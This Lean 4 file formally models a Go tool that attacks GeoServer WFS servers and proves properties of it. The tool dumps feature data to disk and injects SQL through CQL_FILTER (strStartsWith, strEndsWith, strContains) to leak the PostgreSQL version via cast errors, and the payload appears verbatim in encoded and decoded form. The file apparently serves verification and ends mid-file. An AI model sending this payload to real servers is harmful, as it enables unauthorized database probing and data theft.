import Mathlib

/-!
# GeoServer WFS probe (`geoserver.go`): shallow embedding and verified properties

Go strings are modelled as lists of bytes, Go `int` values as `Int`, and a
run-time panic of a slice expression as `none`.  Library calls whose result
depends on the outside world or on a large external table (HTTP, the JSON and
XML decoders, the file system, Unicode classes) are fields of `World`.
-/

namespace Geoserver

/-! ## Go strings -/

abbrev Byte := UInt8

abbrev GoString := List Byte

/-- Bytes of a Go string literal; Go source text is UTF-8. -/
def lit (s : String) : GoString := s.toList.flatMap String.utf8EncodeChar

/-- The byte of the one-byte string "\n". -/
def nl : Byte := 10

/-- Model of `strings.HasPrefix(s, p)`. -/
def startsWith (s p : GoString) : Bool := p.isPrefixOf s

/-- Model of `strings.Index(s, substr)`: index of the first instance of `substr`
in `s`, or -1. -/
def Index (s substr : GoString) : Int :=
  match s with
  | [] => if startsWith [] substr then 0 else -1
  | c :: t =>
    if startsWith (c :: t) substr then 0
    else
      let r := Index t substr
      if r = -1 then -1 else r + 1

/-- Model of `strings.LastIndex(s, substr)`: index of the last instance of
`substr` in `s`, or -1. -/
def LastIndex (s substr : GoString) : Int :=
  match s with
  | [] => if startsWith [] substr then 0 else -1
  | c :: t =>
    let r := LastIndex t substr
    if r = -1 then (if startsWith (c :: t) substr then 0 else -1) else r + 1

/-- Go slice expression `s[lo:hi]` on a string; `none` is the run-time panic
"slice bounds out of range". -/
def slice (s : GoString) (lo hi : Int) : Option GoString :=
  if 0 ≤ lo ∧ lo ≤ hi ∧ hi ≤ (s.length : Int) then
    some ((s.take hi.toNat).drop lo.toNat)
  else none

/-! ## `GetDatabaseVersion`, lines 360-378: locating the error line -/

/-- The constant searched for at line 361. -/
def errorPattern : GoString := lit "ERROR: invalid input syntax for integer"

/-- Outcome of lines 361-378 for one decoded exception text. -/
inductive Extraction where
  /-- `index == -1`: the loop goes on to the next candidate. -/
  | absent
  /-- A slice expression was out of range: the program crashes. -/
  | panic
  /-- The value logged as "Database Version: %s", followed by `break`. -/
  | found (fragment : GoString)
  deriving DecidableEq, Repr

/-- Lines 365-371: `start` and `end` for the match at `index`. -/
def errorLineBounds (text : GoString) (index : Int) : Option (Int × Int) :=
  match slice text 0 index, slice text index text.length with
  | some before, some after =>
    let start := LastIndex before [nl] + 1
    let e := Index after [nl]
    let stop := if e = -1 then (text.length : Int) else e + index
    some (start, stop)
  | _, _ => none

/-- Lines 361-378 on the text of the decoded service exception. -/
def extractVersion (text : GoString) : Extraction :=
  let index := Index text errorPattern
  if index ≠ -1 then
    match errorLineBounds text index with
    | none => .panic
    | some (start, stop) =>
      match slice text start stop with
      | none => .panic
      | some errorLine =>
        match slice errorLine 96 errorLine.length with
        | none => .panic
        | some fragment => .found fragment
  else .absent

/-! ## Library functions used by the program -/

/-- Model of `fmt.Sprintf` for string operands, scanning the format with a flag
that records a pending `%`.  The verbs `%s` and `%%` are covered; `none` stands
for every other formatting feature and for a wrong operand count (where Go
emits a `%!` diagnostic), none of which the program's constant formats use. -/
def sprintfFrom : Bool → GoString → List GoString → Option GoString
  | false, [], [] => some []
  | false, [], _ :: _ => none
  | true, [], _ => none
  | false, c :: format, args =>
    if c = 37 then sprintfFrom true format args
    else (sprintfFrom false format args).map (c :: ·)
  | true, c :: format, args =>
    if c = 37 then (sprintfFrom false format args).map (37 :: ·)
    else if c = 115 then
      match args with
      | a :: rest => (sprintfFrom false format rest).map (a ++ ·)
      | [] => none
    else none

def Sprintf (format : GoString) (args : List GoString) : Option GoString :=
  sprintfFrom false format args

/-- Letters and digits, the first case of `shouldEscape` in net/url. -/
def isAlnum (c : Byte) : Bool :=
  (97 ≤ c && c ≤ 122) || (65 ≤ c && c ≤ 90) || (48 ≤ c && c ≤ 57)

/-- Model of net/url `shouldEscape(c, encodeQueryComponent)`: only letters,
digits and `-`, `_`, `.`, `~` are left alone in a query component. -/
def shouldEscape (c : Byte) : Bool :=
  if isAlnum c then false
  else if c = 45 || c = 95 || c = 46 || c = 126 then false
  else true

def upperhex : GoString := lit "0123456789ABCDEF"

/-- Model of `url.QueryEscape`: a space becomes `+`, every other byte that
`shouldEscape` becomes `%XX` with `upperhex[c>>4]` and `upperhex[c&15]`. -/
def QueryEscape (s : GoString) : GoString :=
  s.flatMap fun c =>
    if c = 32 then [43]
    else if shouldEscape c then
      [37, upperhex.getD (c.toNat / 16) 0, upperhex.getD (c.toNat % 16) 0]
    else [c]

def ishex (c : Byte) : Bool :=
  (48 ≤ c && c ≤ 57) || (97 ≤ c && c ≤ 102) || (65 ≤ c && c ≤ 70)

def unhex (c : Byte) : Byte :=
  if 48 ≤ c && c ≤ 57 then c - 48
  else if 97 ≤ c && c ≤ 102 then c - 97 + 10
  else if 65 ≤ c && c ≤ 70 then c - 65 + 10
  else 0

/-- Model of `url.QueryUnescape`: `%XX` becomes the byte, `+` a space; `none`
is the `EscapeError` for a `%` not followed by two hex digits. -/
def QueryUnescape : GoString → Option GoString
  | [] => some []
  | c :: t =>
    if c = 37 then
      match t with
      | a :: b :: r =>
        if ishex a && ishex b then (QueryUnescape r).map ((unhex a * 16 + unhex b) :: ·)
        else none
      | _ => none
    else if c = 43 then (QueryUnescape t).map (32 :: ·)
    else (QueryUnescape t).map (c :: ·)

/-- Scan of `strings.Replace` for a non-empty `old`: `n` replacements are still
allowed, `skip` bytes of a replaced instance are still to be dropped. -/
def replaceFrom (old new : GoString) : Nat → Nat → GoString → GoString
  | _, _, [] => []
  | n, skip + 1, _ :: t => replaceFrom old new n skip t
  | 0, 0, c :: t => c :: t
  | n + 1, 0, c :: t =>
    if startsWith (c :: t) old then new ++ replaceFrom old new n (old.length - 1) t
    else c :: replaceFrom old new (n + 1) 0 t

/-- Model of `strings.Replace(s, old, new, n)` for a non-empty `old` (the program
passes the constant "%27%27"): the first `n` non-overlapping instances are
replaced, all of them when `n < 0`. -/
def Replace (s old new : GoString) (n : Int) : GoString :=
  replaceFrom old new (if n < 0 then s.length + 1 else n.toNat) 0 s

/-- Model of `strings.Split(s, sep)` for a one-byte separator (the program
passes "\n"): the pieces between the separators, in order. -/
def Split (s : GoString) (sep : Byte) : List GoString :=
  match s with
  | [] => [[]]
  | c :: t =>
    if c = sep then [] :: Split t sep
    else
      match Split t sep with
      | [] => [[c]]
      | piece :: rest => (c :: piece) :: rest

/-- The table `asciiSpace` of package strings. -/
def asciiSpace (c : Byte) : Bool :=
  c = 9 || c = 10 || c = 11 || c = 12 || c = 13 || c = 32

/-- Result of one HTTP GET followed by `ioutil.ReadAll` of the body. -/
inductive HttpResult where
  /-- `Get` returned an error. -/
  | transportError
  /-- `ReadAll` returned an error. -/
  | readError
  | response (statusCode : Int) (body : GoString)
  deriving DecidableEq, Repr

/-- The outside world and the external libraries, as far as the program
observes them.  `J` is the decoded form `map[string]interface{}` of a JSON
value. -/
structure World (J : Type) where
  /-- `http.Get(url)` / `client.Get(url)` and the read of the response body. -/
  httpGet : GoString → HttpResult
  /-- `xml.Unmarshal(body, &WFS_Capabilities{})`: the field
  `ServiceException.Text` of the result, `none` when an error is returned. -/
  xmlUnmarshal : GoString → Option GoString
  /-- `json.Unmarshal(line, &jsonData)`, `none` when an error is returned. -/
  jsonUnmarshal : GoString → Option J
  /-- `json.MarshalIndent(jsonArray, "", "  ")`, `none` when an error is returned. -/
  jsonMarshalIndent : List J → Option GoString
  /-- `strings.TrimFunc(s, unicode.IsSpace)`. -/
  trimFuncSpace : GoString → GoString
  /-- `strings.TrimRightFunc(s, unicode.IsSpace)`. -/
  trimRightFuncSpace : GoString → GoString
  /-- `url.Parse(endpointURL)`: the field `Host`, `none` when an error is returned. -/
  urlParseHost : GoString → Option GoString
  /-- `filepath.Join(elem...)`. -/
  filepathJoin : List GoString → GoString
  /-- `os.MkdirAll(path, 0755)`: true when no error is returned. -/
  mkdirAll : GoString → Bool
  /-- `ioutil.WriteFile(name, data, 0644)`: true when no error is returned. -/
  writeFile : GoString → GoString → Bool

variable {J : Type}

/-- Second loop of `strings.TrimSpace`, over the reversed remainder: trailing
ASCII white space is dropped; a byte `>= utf8.RuneSelf` hands over to
`TrimRightFunc`. -/
def trimSpaceRight (w : World J) : GoString → GoString
  | [] => []
  | c :: t =>
    if 128 ≤ c then w.trimRightFuncSpace (c :: t).reverse
    else if asciiSpace c then trimSpaceRight w t
    else (c :: t).reverse

/-- Model of `strings.TrimSpace`: leading ASCII white space is dropped; a byte
`>= utf8.RuneSelf` hands over to `TrimFunc`. -/
def TrimSpace (w : World J) : GoString → GoString
  | [] => []
  | c :: t =>
    if 128 ≤ c then w.trimFuncSpace (c :: t)
    else if asciiSpace c then TrimSpace w t
    else trimSpaceRight w (c :: t).reverse

/-! ## `GetDatabaseVersion`, lines 260-382 -/

/-- Lines 261-322: the enabled candidates. -/
def cqlFilters : List GoString := [lit "strStartsWith", lit "strEndsWith", lit "strContains"]

/-- Line 324. -/
def baseEndpoint : GoString :=
  lit "/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName=%s&CQL_FILTER=%s%%28nome%%2C%%27x%%27%%27%%29+%%3D+true+and+1%%3D%%28SELECT+CAST+%%28%%28SELECT+version%%28%%29%%29+AS+INTEGER%%29%%29+--+%%27%%29+%%3D+true"

/-- Lines 328-330: the escaped candidate name after the quote rewrite. -/
def encodeCQLFilter (cqlFilter : GoString) : GoString :=
  Replace (QueryEscape cqlFilter) (lit "%27%27") (lit "%27%27%27") (-1)

/-- Lines 328-336: the URL requested for one candidate. -/
def probeURL (endpointURL typeName cqlFilter : GoString) : Option GoString :=
  (Sprintf baseEndpoint [typeName, encodeCQLFilter cqlFilter]).map (endpointURL ++ ·)

/-- How one run of `GetDatabaseVersion` ends. -/
inductive ProbeOutcome where
  /-- The candidate list ran out. -/
  | exhausted
  /-- The fragment was logged and the loop left by `break`. -/
  | found (fragment : GoString)
  /-- `errorLine[96:]` was out of range: the program crashed. -/
  | panic
  /-- The format left the modelled part of `Sprintf`. -/
  | unmodelled
  deriving DecidableEq, Repr

/-- One run of `GetDatabaseVersion`: the URLs requested, in order, and the end. -/
structure ProbeRun where
  requests : List GoString
  outcome : ProbeOutcome
  deriving DecidableEq, Repr

/-- The loop of lines 326-381 over the remaining candidates. -/
def probeCandidates (w : World J) (endpointURL typeName : GoString) :
    List GoString → ProbeRun
  | [] => ⟨[], .exhausted⟩
  | cqlFilter :: rest =>
    match probeURL endpointURL typeName cqlFilter with
    | none => ⟨[], .unmodelled⟩
    | some url =>
      let next := probeCandidates w endpointURL typeName rest
      let continue_ : ProbeRun := ⟨url :: next.requests, next.outcome⟩
      match w.httpGet url with
      | .transportError => continue_
      | .readError => continue_
      | .response statusCode body =>
        if statusCode = 200 then
          match w.xmlUnmarshal body with
          | none => continue_
          | some text =>
            match extractVersion text with
            | .absent => continue_
            | .panic => ⟨[url], .panic⟩
            | .found fragment => ⟨[url], .found fragment⟩
        else continue_

def GetDatabaseVersion (w : World J) (endpointURL typeName : GoString) : ProbeRun :=
  probeCandidates w endpointURL typeName cqlFilters

/-! ## `GetFeatureCollection`, lines 179-258 -/

/-- The error returned by `GetFeatureCollection`, by the place that returns it. -/
inductive FetchError where
  | urlParse
  | mkdirAll
  | transport
  | readBody
  | unexpectedStatus (statusCode : Int)
  | jsonUnmarshal (line : GoString)
  | jsonMarshal
  | writeFile
  | unmodelled
  deriving DecidableEq, Repr

/-- What `GetFeatureCollection` does to the outside, in order. -/
inductive Effect (J : Type) where
  | mkdirAll (path : GoString)
  | httpGet (url : GoString)
  | marshalIndent (jsonArray : List J)
  | writeFile (path data : GoString)
  | logSaved (path : GoString)
  deriving DecidableEq, Repr

/-- One run of `GetFeatureCollection`: its effects and the returned error
(`none` is `nil`). -/
structure FetchRun (J : Type) where
  effects : List (Effect J)
  err : Option FetchError
  deriving DecidableEq, Repr

/-- Line 196. -/
def featureFormat : GoString :=
  lit "/geoserver/ows?service=WFS&version=1.0.0&request=GetFeature&typeName=%s&sortOrder=ASC&outputFormat=application/json&maxFeatures=1000"

/-- Lines 196-202: the URL requested; `maxFeatures` is a parameter of the
function and does not occur in its body. -/
def featureURL (endpointURL typeName : GoString) (_maxFeatures : Int) : Option GoString :=
  (Sprintf featureFormat [typeName]).map (endpointURL ++ ·)

/-- The loop of lines 225-240 over the remaining lines, `jsonArray` holding the
objects appended so far; the error carries the line that failed to decode. -/
def decodeLines (w : World J) : List GoString → List J → Except GoString (List J)
  | [], jsonArray => .ok jsonArray
  | line :: rest, jsonArray =>
    if (TrimSpace w line).length = 0 then decodeLines w rest jsonArray
    else
      match w.jsonUnmarshal line with
      | none => .error line
      | some jsonData => decodeLines w rest (jsonArray ++ [jsonData])

/-- Lines 218-240: split the body into lines and decode them. -/
def normalize (w : World J) (body : GoString) : Except GoString (List J) :=
  decodeLines w (Split body nl) []

def GetFeatureCollection (w : World J) (endpointURL typeName : GoString) (maxFeatures : Int) :
    FetchRun J :=
  match w.urlParseHost endpointURL with
  | none => ⟨[], some .urlParse⟩
  | some domain =>
    let outputFolder := w.filepathJoin [lit "output", lit "databases", domain]
    if !w.mkdirAll outputFolder then ⟨[.mkdirAll outputFolder], some .mkdirAll⟩
    else
      match featureURL endpointURL typeName maxFeatures with
      | none => ⟨[.mkdirAll outputFolder], some .unmodelled⟩
      | some url =>
        match w.httpGet url with
        | .transportError => ⟨[.mkdirAll outputFolder, .httpGet url], some .transport⟩
        | .readError => ⟨[.mkdirAll outputFolder, .httpGet url], some .readBody⟩
        | .response statusCode body =>
          if statusCode ≠ 200 then
            ⟨[.mkdirAll outputFolder, .httpGet url], some (.unexpectedStatus statusCode)⟩
          else
            match normalize w body with
            | .error line =>
              ⟨[.mkdirAll outputFolder, .httpGet url], some (.jsonUnmarshal line)⟩
            | .ok jsonArray =>
              match w.jsonMarshalIndent jsonArray with
              | none =>
                ⟨[.mkdirAll outputFolder, .httpGet url, .marshalIndent jsonArray],
                  some .jsonMarshal⟩
              | some indentedJSON =>
                match Sprintf (lit "%s.json") [typeName] with
                | none =>
                  ⟨[.mkdirAll outputFolder, .httpGet url, .marshalIndent jsonArray],
                    some .unmodelled⟩
                | some fileName =>
                  let outputFile := w.filepathJoin [outputFolder, fileName]
                  if !w.writeFile outputFile indentedJSON then
                    ⟨[.mkdirAll outputFolder, .httpGet url, .marshalIndent jsonArray,
                      .writeFile outputFile indentedJSON], some .writeFile⟩
                  else
                    ⟨[.mkdirAll outputFolder, .httpGet url, .marshalIndent jsonArray,
                      .writeFile outputFile indentedJSON, .logSaved outputFile], none⟩

/-! ## `main`, lines 156-175: the loop over the feature types -/

/-- One call made by the loop of `main`, with the feature type it is made for. -/
inductive MainStep (J : Type) where
  | fetch (typeName : GoString) (run : FetchRun J)
  | probe (typeName : GoString) (run : ProbeRun)
  deriving DecidableEq, Repr

def MainStep.typeName : MainStep J → GoString
  | .fetch typeName _ => typeName
  | .probe typeName _ => typeName

/-- The loop of lines 156-175 over the remaining feature-type names.
`docReads` is whether `doc.ReadFromBytes(body)` accepts the capabilities body
(the same body in every iteration). -/
def mainLoop (w : World J) (endpointURL : GoString) (docReads : Bool) :
    List GoString → List (MainStep J)
  | [] => []
  | typeName :: rest =>
    let fetched := GetFeatureCollection w endpointURL typeName 10
    match fetched.err with
    | some _ => [.fetch typeName fetched]
    | none =>
      if !docReads then .fetch typeName fetched :: mainLoop w endpointURL docReads rest
      else
        let probed := GetDatabaseVersion w endpointURL typeName
        match probed.outcome with
        | .panic => [.fetch typeName fetched, .probe typeName probed]
        | _ =>
          .fetch typeName fetched :: .probe typeName probed ::
            mainLoop w endpointURL docReads rest

/-! ## Definitions used to state the properties -/

/-- The containing line of the specification: `text` is `pre ++ line ++ post`,
where `line` starts just after the nearest line break before the first
occurrence of the pattern (`pre` is empty or ends with the line break), ends
just before the nearest line break after it (`post` is empty or starts with
the line break), has no line break itself, and the first occurrence starts
inside `line`. -/
def ContainingLine (text pre line post : GoString) : Prop :=
  text = pre ++ line ++ post ∧
  (pre = [] ∨ pre.getLast? = some nl) ∧
  (post = [] ∨ post.head? = some nl) ∧
  nl ∉ line ∧
  (pre.length : Int) ≤ Index text errorPattern ∧
  Index text errorPattern < (pre.length : Int) + line.length

instance (text pre line post : GoString) : Decidable (ContainingLine text pre line post) := by
  unfold ContainingLine
  infer_instance

/-- The request form of the injection probe:
`{endpoint}/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName={name}&CQL_FILTER={value}`. -/
def requestURL (endpoint name value : GoString) : GoString :=
  endpoint ++ (lit "/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName=" ++
    (name ++ (lit "&CQL_FILTER=" ++ value)))

/-- What follows the candidate name in the CQL_FILTER value of every request. -/
def encodedPayload : GoString :=
  lit "%28nome%2C%27x%27%27%29+%3D+true+and+1%3D%28SELECT+CAST+%28%28SELECT+version%28%29%29+AS+INTEGER%29%29+--+%27%29+%3D+true"

/-- The URLs of the three candidates for one endpoint and feature type, in
list order. -/
def candidateURLs (endpoint name : GoString) : List GoString :=
  cqlFilters.map fun f => requestURL endpoint name (f ++ encodedPayload)

/-- The part of a URL after the first "CQL_FILTER=" (empty when there is none). -/
def cqlFilterValue (url : GoString) : GoString :=
  let i := Index url (lit "CQL_FILTER=")
  if i = -1 then [] else url.drop (i.toNat + 11)

/-- The predicate the program sends for the function name `f`, decoded. -/
def sentPredicate (f : GoString) : GoString :=
  f ++ lit "(nome,'x'') = true and 1=(SELECT CAST ((SELECT version()) AS INTEGER)) -- ') = true"

/-- The template of the specification instantiated with the function name `f`. -/
def specPredicate (f : GoString) : GoString :=
  f ++ lit "(name, 'x'') = true and 1 = (SELECT CAST((SELECT version()) AS INTEGER)) -- ') = true"

/-- The candidate names as the specification lists them. -/
def specCandidates : List GoString := [lit "starts-with", lit "ends-with", lit "contains"]

/-- A candidate request triggers when its response has status 200, decodes,
and the decoded exception text contains the pattern. -/
def triggers (w : World J) (url : GoString) : Bool :=
  match w.httpGet url with
  | .response statusCode body =>
    decide (statusCode = 200) &&
      (match w.xmlUnmarshal body with
       | some text => decide (Index text errorPattern ≠ -1)
       | none => false)
  | _ => false

/-- The start of a list up to and including its first element that satisfies
`p`; the whole list when no element does. -/
def throughFirst {α : Type} (p : α → Bool) : List α → List α
  | [] => []
  | a :: l => if p a then [a] else a :: throughFirst p l

/-- Lines joined by single line feeds. -/
def joinLines : List GoString → GoString
  | [] => []
  | [l] => l
  | l :: rest => l ++ nl :: joinLines rest

/-- The test of line 227: the line is skipped. -/
def isBlank (w : World J) (line : GoString) : Bool :=
  (TrimSpace w line).length = 0

/-- The request form of the feature retrieval with the feature count rendered
in decimal as `count`:
`{endpoint}/geoserver/ows?service=WFS&version=1.0.0&request=GetFeature&typeName={name}&sortOrder=ASC&outputFormat=application/json&maxFeatures={N}`. -/
def specFeatureURL (endpoint name count : GoString) : GoString :=
  endpoint ++ (lit "/geoserver/ows?service=WFS&version=1.0.0&request=GetFeature&typeName=" ++
    (name ++ (lit "&sortOrder=ASC&outputFormat=application/json&maxFeatures=" ++ count)))

/-- The value of the driver message used in the offset example. -/
def versionValue : GoString := lit "PostgreSQL 14.2 on x86_64"

/-- The byte of the double quote. -/
def quote : Byte := 34

/-- The driver message
`ERROR: invalid input syntax for integer: "PostgreSQL 14.2 on x86_64"`. -/
def driverMessage : GoString :=
  errorPattern ++ lit ": " ++ [quote] ++ (versionValue ++ [quote])

/-- Filler of `n` bytes `.` standing for the text that precedes the driver
message on its line. -/
def filler (n : Nat) : GoString := List.replicate n 46

/-- Path elements joined by `/`, the result of `filepath.Join` on clean
non-empty elements. -/
def slashJoin : List GoString → GoString
  | [] => []
  | [a] => a
  | a :: rest => a ++ 47 :: slashJoin rest

/-- A world for concrete runs: requests are answered by `answer`, the XML
decoder hands the body over as the exception text, the JSON decoder accepts
the lines that start with an opening brace, and the file system accepts
everything. -/
def sampleWorld (answer : GoString → HttpResult) : World GoString where
  httpGet := answer
  xmlUnmarshal := some
  jsonUnmarshal := fun line => if startsWith line [123] then some line else none
  jsonMarshalIndent := fun jsonArray => some (joinLines jsonArray)
  trimFuncSpace := id
  trimRightFuncSpace := id
  urlParseHost := fun _ => some (lit "localhost:8080")
  filepathJoin := slashJoin
  mkdirAll := fun _ => true
  writeFile := fun _ _ => true

/-- The exception text that a run inspects and finds the pattern in: the
decoded text of the first request of the list that triggers. -/
def inspectedText (w : World J) : List GoString → Option GoString
  | [] => none
  | url :: rest =>
    if triggers w url then
      match w.httpGet url with
      | .response _ body => w.xmlUnmarshal body
      | _ => none
    else inspectedText w rest

/-- The end of a run in which `extraction` is the result of lines 361-378 on
the inspected text. -/
def outcomeOf : Option Extraction → ProbeOutcome
  | none => .exhausted
  | some (.found fragment) => .found fragment
  | some _ => .panic

/-- A stack-trace line that precedes the error line in the sample text. -/
def samplePre : GoString := lit "java.lang.RuntimeException: java.io.IOException" ++ [nl]

/-- The error line of the sample text: 54 bytes, then the driver message. -/
def sampleLine : GoString := filler 54 ++ driverMessage

/-- What follows the error line in the sample text. -/
def samplePost : GoString := nl :: lit "Position: 8"

def sampleText : GoString := samplePre ++ sampleLine ++ samplePost

/-- The endpoint and the feature type of the concrete runs. -/
def sampleEndpoint : GoString := lit "http://localhost:8080"

def sampleType : GoString := lit "topp:states"

/-- A server on which only the `strContains` request raises the cast error;
every other request is answered with status 200 and an empty body. -/
def thirdOnlyWorld : World GoString :=
  sampleWorld fun url =>
    if url = requestURL sampleEndpoint sampleType (lit "strContains" ++ encodedPayload) then
      .response 200 sampleText
    else .response 200 []

/-- A server that answers the feature request for the type `a` with status 404
and every other request with status 200 and an empty body. -/
def missingTypeWorld : World GoString :=
  sampleWorld fun url =>
    if url = specFeatureURL sampleEndpoint (lit "a") (lit "1000") then .response 404 []
    else .response 200 []

/-- A body of two JSON lines with blank lines around and between them. -/
def sampleLines : List GoString :=
  [[], [123, 125], lit "  ", [123, 125, 13], []]

/-- A success status in the wording of the specification, which calls a status
outside 2xx a failure. -/
def isSuccessStatus (statusCode : Int) : Bool :=
  decide (200 ≤ statusCode) && decide (statusCode < 300)

/-- The trigger condition with any success status in place of the test
`StatusCode == http.StatusOK` of line 350. -/
def triggersOnSuccess (w : World J) (url : GoString) : Bool :=
  match w.httpGet url with
  | .response statusCode body =>
    isSuccessStatus statusCode &&
      (match w.xmlUnmarshal body with
       | some text => decide (Index text errorPattern ≠ -1)
       | none => false)
  | _ => false

/-- A server that answers the `strStartsWith` request with status 201 and the
sample exception text, and every other request with status 200 and an empty
body. -/
def createdWorld : World GoString :=
  sampleWorld fun url =>
    if url = requestURL sampleEndpoint sampleType (lit "strStartsWith" ++ encodedPayload) then
      .response 201 sampleText
    else .response 200 []

/-- The text of a JSON object starts with an opening brace. -/
def startsAsObject (line : GoString) : Bool := startsWith line [123]

/-- A body of three lines: an empty object, the JSON value `null`, an empty
object. -/
def nullLineBody : GoString := [123, 125] ++ nl :: lit "null" ++ nl :: [123, 125]

/-- A world whose JSON decoder behaves on the line `null` as `json.Unmarshal`
into a map does: no error is returned and the map stays nil (written here as
the text `null`, which is also how it is marshalled). Every request is
answered with status 200 and `nullLineBody`. -/
def nullLineWorld : World GoString :=
  { sampleWorld (fun _ => .response 200 nullLineBody) with
    jsonUnmarshal := fun line =>
      if line = lit "null" then some (lit "null")
      else if startsWith line [123] then some line else none }

/-! ## Facts about the string primitives -/

theorem startsWith_iff (s p : GoString) : startsWith s p = true ↔ p <+: s := by
  simp [startsWith]

theorem Index_nil (sub : GoString) : Index [] sub = if sub = [] then 0 else -1 := by
  cases sub <;> simp [Index, startsWith]

theorem Index_cons (c : Byte) (t sub : GoString) :
    Index (c :: t) sub =
      if startsWith (c :: t) sub then 0
      else if Index t sub = -1 then -1 else Index t sub + 1 := by
  rw [Index]

theorem LastIndex_nil (sub : GoString) : LastIndex [] sub = if sub = [] then 0 else -1 := by
  cases sub <;> simp [LastIndex, startsWith]

theorem LastIndex_cons (c : Byte) (t sub : GoString) :
    LastIndex (c :: t) sub =
      if LastIndex t sub = -1 then (if startsWith (c :: t) sub then 0 else -1)
      else LastIndex t sub + 1 := by
  rw [LastIndex]

theorem Index_ge (s sub : GoString) : -1 ≤ Index s sub := by
  induction s with
  | nil => rw [Index_nil]; split <;> omega
  | cons c t ih => rw [Index_cons]; split_ifs <;> omega

theorem LastIndex_ge (s sub : GoString) : -1 ≤ LastIndex s sub := by
  induction s with
  | nil => rw [LastIndex_nil]; split <;> omega
  | cons c t ih => rw [LastIndex_cons]; split_ifs <;> omega

theorem Index_bound (s sub : GoString) (h : Index s sub ≠ -1) :
    Index s sub + sub.length ≤ s.length := by
  induction s with
  | nil =>
    rw [Index_nil] at h ⊢
    split_ifs at h ⊢ with hs
    · simp [hs]
    · exact absurd rfl h
  | cons c t ih =>
    rw [Index_cons] at h ⊢
    split_ifs at h ⊢ with hp hr
    · have := List.IsPrefix.length_le ((startsWith_iff _ _).1 hp)
      simp at this ⊢; omega
    · exact absurd rfl h
    · have := ih hr
      simp only [List.length_cons]; push_cast; omega

theorem LastIndex_bound (s sub : GoString) (h : LastIndex s sub ≠ -1) :
    LastIndex s sub + sub.length ≤ s.length := by
  induction s with
  | nil =>
    rw [LastIndex_nil] at h ⊢
    split_ifs at h ⊢ with hs
    · simp [hs]
    · exact absurd rfl h
  | cons c t ih =>
    rw [LastIndex_cons] at h ⊢
    split_ifs at h ⊢ with hr hp
    · have := List.IsPrefix.length_le ((startsWith_iff _ _).1 hp)
      simp at this ⊢; omega
    · exact absurd rfl h
    · have := ih hr
      simp only [List.length_cons]; push_cast; omega

/-- The value of `Index` is a position at which `substr` occurs. -/
theorem Index_startsWith (s sub : GoString) (h : Index s sub ≠ -1) :
    startsWith (s.drop (Index s sub).toNat) sub = true := by
  induction s with
  | nil =>
    rw [Index_nil] at h
    split_ifs at h with hs
    · simp [hs, startsWith]
    · exact absurd rfl h
  | cons c t ih =>
    rw [Index_cons] at h ⊢
    split_ifs at h ⊢ with hp hr
    · simpa using hp
    · exact absurd rfl h
    · have h0 := Index_ge t sub
      have : (Index t sub + 1).toNat = (Index t sub).toNat + 1 := by omega
      rw [this, List.drop_succ_cons]
      exact ih hr

/-- No occurrence of `substr` starts before the value of `Index`. -/
theorem Index_first (s sub : GoString) (j : Nat) (hj : (j : Int) < Index s sub) :
    startsWith (s.drop j) sub = false := by
  induction s generalizing j with
  | nil =>
    rw [Index_nil] at hj
    split_ifs at hj <;> omega
  | cons c t ih =>
    rw [Index_cons] at hj
    split_ifs at hj with hp hr
    · omega
    · omega
    · cases j with
      | zero => simpa using hp
      | succ k =>
        rw [List.drop_succ_cons]
        apply ih
        push_cast at hj; omega

/-- When `substr` does not occur, no suffix of `s` starts with it. -/
theorem Index_absent (s sub : GoString) (h : Index s sub = -1) (j : Nat) :
    startsWith (s.drop j) sub = false := by
  induction s generalizing j with
  | nil =>
    rw [Index_nil] at h
    split_ifs at h with hs
    simp [startsWith]
    cases sub with
    | nil => exact absurd rfl hs
    | cons a b => simp
  | cons c t ih =>
    rw [Index_cons] at h
    split_ifs at h with hp hr
    · cases j with
      | zero => simpa using hp
      | succ k => rw [List.drop_succ_cons]; exact ih hr k
    · have := Index_ge t sub; omega

theorem startsWith_single (c b : Byte) (t : GoString) :
    startsWith (c :: t) [b] = decide (b = c) := by
  by_cases h : b = c <;> simp [startsWith, List.isPrefixOf, h]

/-- `Index` for a one-byte separator that does not occur. -/
theorem Index_single_not_mem (b : Byte) (l : GoString) (h : b ∉ l) : Index l [b] = -1 := by
  induction l with
  | nil => simp [Index_nil]
  | cons c t ih =>
    simp only [List.mem_cons, not_or] at h
    rw [Index_cons, startsWith_single, ih h.2]
    simp [h.1]

/-- `Index` for a one-byte separator: the position just after a separator-free
stretch, when the separator follows. -/
theorem Index_single_append (b : Byte) (l r : GoString) (h : b ∉ l) :
    Index (l ++ b :: r) [b] = l.length := by
  induction l with
  | nil => simp [Index_cons, startsWith_single]
  | cons c t ih =>
    simp only [List.mem_cons, not_or] at h
    rw [List.cons_append, Index_cons, startsWith_single, ih h.2]
    simp [h.1]

theorem LastIndex_single_not_mem (b : Byte) (l : GoString) (h : b ∉ l) :
    LastIndex l [b] = -1 := by
  induction l with
  | nil => simp [LastIndex_nil]
  | cons c t ih =>
    simp only [List.mem_cons, not_or] at h
    rw [LastIndex_cons, startsWith_single, ih h.2]
    simp [h.1]

/-- `LastIndex` for a one-byte separator: the position of a separator that is
followed by a separator-free stretch. -/
theorem LastIndex_single_append (b : Byte) (p l : GoString) (h : b ∉ l) :
    LastIndex (p ++ b :: l) [b] = p.length := by
  induction p with
  | nil =>
    rw [List.nil_append, LastIndex_cons, startsWith_single, LastIndex_single_not_mem b l h]
    simp
  | cons c t ih =>
    rw [List.cons_append, LastIndex_cons, ih]
    simp

/-! ## Facts about the slice expression and the error line -/

theorem slice_eq_some (s : GoString) (lo hi : Int) (h0 : 0 ≤ lo) (h1 : lo ≤ hi)
    (h2 : hi ≤ (s.length : Int)) :
    slice s lo hi = some ((s.take hi.toNat).drop lo.toNat) := by
  simp [slice, h0, h1, h2]

theorem slice_length (s r : GoString) (lo hi : Int) (h : slice s lo hi = some r) :
    (r.length : Int) = hi - lo := by
  unfold slice at h
  split_ifs at h with hc
  cases h
  simp only [List.length_drop, List.length_take]
  omega

/-- The suffix expression `errorLine[96:]` at line 377. -/
theorem slice_suffix (s : GoString) (n : Nat) :
    slice s n s.length = if n ≤ s.length then some (s.drop n) else none := by
  unfold slice
  split_ifs with h1 h2 h2
  · simp
  · omega
  · omega
  · rfl

theorem errorPattern_length : errorPattern.length = 39 := by decide

theorem errorPattern_head : ∃ t, errorPattern = 69 :: t := ⟨_, rfl⟩

/-- The bounds of lines 365-371 whenever `index` is a position of the text. -/
